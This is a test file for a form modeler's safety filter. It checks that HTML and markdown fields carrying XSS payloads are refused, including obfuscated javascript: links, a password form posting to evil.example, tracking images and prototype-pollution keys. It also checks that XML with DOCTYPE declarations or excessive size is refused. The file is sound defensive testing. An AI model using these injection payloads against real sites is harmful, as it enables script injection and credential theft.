import { describe, expect, it } from 'vitest'
import { safetyFaults } from '../../../plugins/modeler/form-safety.ts'
import { modelFault } from '../../../plugins/modeler/model-limits.ts'

const rulesOf = (...components: object[]) => safetyFaults({ components }).map(({ rule }) => rule)
const html = (content: string) => ({ type: 'html', id: 'h', content })
const text = (content: string) => ({ type: 'text', id: 't', text: content })
const nested = (depth: number): object => (depth === 0 ? text('x') : { type: 'group', id: 'g', components: [nested(depth - 1)] })

describe('a form', () => {
  it.each([
    ['html', html('<img src=x onerror="alert(1)">'), 'script'],
    ['html', html('< script >alert(1)</script>'), 'script'],
    ['html', html('<style>body{display:none}</style>'), 'script'],
    ['html', html('<form action="https://evil.example"><input name="password"></form>'), 'script'],
    ['html', html('<a href="java&#115;cript:alert(1)">x</a>'), 'link'],
    ['html', html('<a href="java\tscript:alert(1)">x</a>'), 'link'],
    ['text', text('[x](javascript:alert(1))'), 'link'],
    ['text', text('[x](&#x6a;avascript&colon;alert(1))'), 'link'],
    ['picture', { type: 'image', source: 'https://evil.example/track.png' }, 'picture'],
    ['picture', { type: 'image', source: '//evil.example/track.png' }, 'picture'],
    ['picture', { type: 'image', source: 'data:image/svg+xml;base64,PHN2Zz4=' }, 'picture'],
    ['frame', { type: 'iframe', url: 'https://example.org' }, 'frame'],
    ['preview', { type: 'documentPreview', dataSource: '=documents' }, 'frame'],
    ['key', { type: 'textfield', key: 'a.__proto__.roles' }, 'name'],
    ['path', { type: 'group', path: 'constructor', components: [] }, 'name'],
  ])('with a %s that could do harm is refused', (_what, field, rule) => expect(rulesOf(field)).toEqual([rule]))

  it('is refused where it is too large to look through', () => {
    expect(rulesOf(nested(30))).toContain('size')
    expect(rulesOf(...Array.from({ length: 2_100 }, () => text('x')))).toEqual(['size'])
  })

  it('may have text, tables, links, pictures of its own, and words that only look like code', () => {
    const harmless = [
      html('<table><tr><td>一</td></tr></table><p class="a">二 <a href="https://www.moj.gov.cn">司法部</a></p>'),
      text('## 标题\n\n请于 **10** 日内报到，[办法](https://example.org/a?b=1#c)。条件：on = 开'),
      { type: 'image', source: 'data:image/png;base64,iVBORw0KGgo=' },
      { type: 'image', source: '=picture' },
      { type: 'textfield', key: 'constructorName' },
    ]
    expect(rulesOf(...harmless)).toEqual([])
  })
})

describe('a model', () => {
  it.each([
    ['a document type', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "b">]><d/>', 'doctype'],
    ['too many elements', `<d>${'<a/>'.repeat(20_001)}</d>`, 'elements'],
    ['too many levels', '<a>'.repeat(201), 'depth'],
  ])('with %s is refused before it is read', (_what, xml, fault) => expect(modelFault(xml)).toBe(fault))

  it.each([
    [
      'signs in quotes, comments and CDATA',
      '<?xml version="1.0"?><d a="<b> / > \'"><!-- <a> --><![CDATA[<a><a>]]><b c=\'">"\'/></d>',
    ],
    ['no end', '<!--'.repeat(50_000)],
    ['no tags', 'MZ'],
  ])('with %s is the parser’s to tell', (_what, xml) => expect(modelFault(xml)).toBeUndefined())
})
